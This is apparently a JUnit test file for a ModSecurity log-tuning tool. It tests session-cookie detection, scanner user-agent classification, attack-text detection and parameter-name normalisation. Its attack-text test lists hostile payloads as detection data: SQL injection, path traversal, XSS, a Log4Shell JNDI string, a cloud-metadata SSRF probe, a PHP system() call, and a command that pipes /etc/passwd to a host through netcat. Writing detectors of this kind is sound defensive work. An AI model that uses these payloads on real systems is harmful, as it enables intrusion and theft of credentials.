package org.modsecexplorer.advise.tune;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.modsecexplorer.advise.tune.client.Agents;
import org.modsecexplorer.advise.tune.shape.PlaceShape;
import org.modsecexplorer.audit.Header;
import org.modsecexplorer.audit.Headers;
import org.modsecexplorer.audit.sign.AttackTexts;
import org.modsecexplorer.audit.sign.Sessions;

/** Single signs: sessions, programs, attack texts, places that vary. */
class SignsTest {

    private static Headers with(String name, String value) {
        return new Headers(List.of(new Header("Host", "a"), new Header(name, value)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"session=2d40f9cb2ee8", "a=1; PHPSESSID=dd73eaf7644710f7", "connect.sid=s%3Aabc.def", "x=9f86d081884c7d65"})
    void cookiesOfASession(String cookies) {
        assertThat(Sessions.in(with("Cookie", cookies))).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"lang=en", "lang=' OR '1'='1", "prefs={\"sort\":1}", "session=", "sid"})
    void otherCookies(String cookies) {
        assertThat(Sessions.in(with("Cookie", cookies))).isFalse();
    }

    @Test
    void credentialsAreASession() {
        assertThat(Sessions.in(with("Authorization", "Bearer x"))).isTrue();
    }

    @Test
    void withoutHeadersNothingIsKnown() {
        assertThat(Sessions.in(Headers.NONE)).isNull();
    }

    @Test
    void programsByName() {
        assertThat(Agents.isScanner("sqlmap/1.8#stable")).isTrue();
        assertThat(Agents.isScanner("Mozilla/5.0 (X11; Linux x86_64)")).isFalse();
        assertThat(Agents.isTool("curl/8.11.0")).isTrue();
        assertThat(Agents.isTool("")).isTrue();
        assertThat(Agents.isTool("Mozilla/5.0 (X11; Linux x86_64)")).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "1' UNION SELECT name,pass FROM users--", "' OR '1'='1", "x or 1=1", "../../../../etc/passwd", "<script>alert(1)</script>", "<svg onload=alert(1)>",
        "${jndi:ldap://x/a}", "http://169.254.169.254/", ";cat /etc/passwd|nc 203.0.113.1 99", "<?php system('id'); ?>"
    })
    void textsThatAttacksAreTriedWith(String data) {
        assertThat(AttackTexts.isTried(data)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"union all select\" tutorial", "<p onclick=\"open()\">", "../reports/12.pdf", "how to read /etc/passwd", "<?php echo $title; ?>", "a'||'b'--"})
    void textsThatPeopleWrite(String data) {
        assertThat(AttackTexts.isTried(data)).isFalse();
    }

    @Test
    void elementsAndNumberedNamesAreAlike() {
        assertThat(PlaceShape.of("ARGS:json.blocks.array_12.html")).isEqualTo("ARGS:json.blocks.array_*.html");
        assertThat(PlaceShape.of("REQUEST_COOKIES:id_9f86d081884c7d65")).isEqualTo("REQUEST_COOKIES:id_*");
        assertThat(PlaceShape.of("ARGS:feed")).isEqualTo("ARGS:feed");
        assertThat(PlaceShape.of(null)).isEmpty();
    }
}
